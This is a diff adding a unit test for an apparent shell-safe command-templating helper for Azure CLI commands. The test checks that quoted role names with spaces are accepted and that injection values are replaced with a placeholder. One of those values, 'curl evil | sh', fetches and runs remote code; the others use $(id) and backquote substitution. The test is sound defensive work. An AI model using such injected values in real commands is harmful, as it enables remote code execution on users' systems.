@@ -176,3 +176,15 @@ test('a command takes a fact only when it is shell-safe; anything else shows the
 		'az account set --subscription <subscription-id>',
 	);
 });
+
+test('inside double quotes a fact may hold spaces (a role name), never a quote, $ or a backquote', () => {
+	expect(
+		fillCommand('az role assignment create --role "{role}" --scope {roleScope}', {
+			role: 'Storage Blob Data Reader',
+			roleScope: '/subscriptions/s',
+		}),
+	).toBe('az role assignment create --role "Storage Blob Data Reader" --scope /subscriptions/s');
+	expect(fillCommand('--role {role}', {role: 'Storage Blob Data Reader'})).toBe('--role <role>');
+	for (const role of ['Reader" && curl evil | sh "', 'Reader $(id)', 'Reader `id`', 'Reader\\x'])
+		expect(fillCommand('--role "{role}"', {role})).toBe('--role "<role>"');
+});
